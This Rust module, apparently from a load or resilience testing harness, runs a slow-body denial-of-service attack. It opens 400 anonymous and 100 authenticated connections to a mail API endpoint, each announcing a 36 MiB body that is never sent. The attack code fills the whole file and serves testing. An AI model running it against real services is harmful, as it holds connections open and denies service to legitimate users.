//! Announced bodies of 36 MiB without any bytes: anonymous, and of one user.

use std::sync::Arc;

use super::connection::head;
use super::scene::AttackContext;
use super::slow::{self, SlowConnections};

/// Number of connections without a token.
const ANONYMOUS_CONNECTIONS: usize = 400;
/// Number of connections of the one user.
const USER_CONNECTIONS: usize = 100;

/// Runs the attack until it is over.
pub async fn run(scene: &Arc<AttackContext>) -> anyhow::Result<()> {
    let more = "Content-Type: application/json\r\nContent-Length: 37748736\r\n\r\n";
    let kind = |name, connections, token| {
        let opening = head("POST", "/mail/v1/users/me/messages", token, more);
        SlowConnections { name, connections, opening, chunk: b"" }
    };
    let own = kind("own", USER_CONNECTIONS, Some(&*scene.orders.token));
    slow::run_all(scene, vec![kind("anonymous", ANONYMOUS_CONNECTIONS, None), own]).await
}
